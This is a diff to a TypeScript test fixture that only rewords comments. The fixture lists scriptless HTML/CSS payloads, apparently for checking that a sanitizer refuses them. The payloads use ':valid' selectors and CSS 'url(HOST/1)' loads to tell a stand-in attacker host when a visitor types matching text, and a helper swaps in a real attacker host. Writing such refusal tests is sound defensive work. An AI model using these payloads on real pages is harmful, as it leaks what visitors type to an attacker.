@@ -1,18 +1,18 @@
 /*
- * Messages that would tell an attacker's host what a visitor types, without any script. HOST stands for that host; the
- * first text field takes what is typed, which fits a pattern.
+ * Messages that tell an attacker's host, without script, what a visitor types. HOST stands for that host. The typed
+ * text goes into the first text field and fits its pattern.
  */
 
-/** A message, and what its refusal names of each of its two parts. */
+/** A message, and what the refusal names in each of its two parts. */
 export type LeakPayload = readonly [html: string, css: string, loads: string, typed: string];
 
 const field = `<input pattern="4.*" required>`;
 const form = `<form data-form="lead">${field}</form>`;
 const text = `${field}<p>x</p>`;
-// Not the field that the script adds to forms.
+// Excludes the field that the script adds to forms.
 const seen = "[required]:valid";
 
-/** These load in Chromium once something is typed. */
+/** In Chromium, these load once something is typed. */
 export const leaking: readonly LeakPayload[] = [
   [field, `${seen} { background: url(HOST/1) }`, "url(", "<input>"],
   [form, `${seen} { background: url("HOST/1") }`, "url()", "<form>"],
@@ -36,7 +36,7 @@ export const leaking: readonly LeakPayload[] = [
     "url(",
     "contenteditable",
   ],
-  // Loaded elsewhere than in the style sheet, which only shows it.
+  // Loaded elsewhere; the style sheet only shows it.
   [
     `${field}<p style="--a: url(HOST/1)">x</p>`,
     `${seen} + p { background: var(--a) }`,
@@ -81,7 +81,7 @@ export const leaking: readonly LeakPayload[] = [
   ],
 ];
 
-/** These load in other browsers, or with what another script does; they are refused alike. */
+/** These load in other browsers or with another script's help. They are refused too. */
 export const suspected: readonly LeakPayload[] = [
   [
     `<select><option>a</option></select>`,
@@ -125,7 +125,7 @@ export const suspected: readonly LeakPayload[] = [
   [`<form style="background: url(HOST/1)"></form>`, "", "url(", "<form>"],
 ];
 
-/** A payload with the attacker's host in place of HOST. */
+/** Puts the attacker's host in place of HOST. */
 export function withHost([html, css]: LeakPayload, host: string) {
   return { htmlContent: html.replaceAll("HOST", host), cssContent: css.replaceAll("HOST", host) };
 }
